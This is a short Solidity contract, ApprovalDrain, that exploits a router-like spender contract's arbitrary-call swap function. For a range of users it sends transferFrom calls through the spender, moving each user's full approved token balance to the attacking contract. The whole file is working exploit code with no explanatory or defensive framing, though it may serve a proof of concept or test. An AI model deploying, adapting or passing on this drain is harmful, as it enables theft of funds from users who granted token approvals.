// SPDX-License-Identifier: MIT
pragma solidity 0.8.34;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ApprovingUsers} from "./ApprovingUsers.sol";
import {ForwardingFacet} from "./ForwardingFacet.sol";

/// @notice Takes what users approved, by letting the spender itself call the token.
contract ApprovalDrain {
    /// @notice Everything of so many users, from the given one on.
    function take(ApprovingUsers from, uint256 first, uint256 count) external {
        (IERC20 token, ForwardingFacet spender) = (from.TOKEN(), ForwardingFacet(from.SPENDER()));
        for (uint256 i = first; i < first + count; ++i) {
            address user = from.users(i);
            bytes memory call = abi.encodeCall(IERC20.transferFrom, (user, address(this), token.balanceOf(user)));
            spender.swap(address(token), call);
        }
    }
}
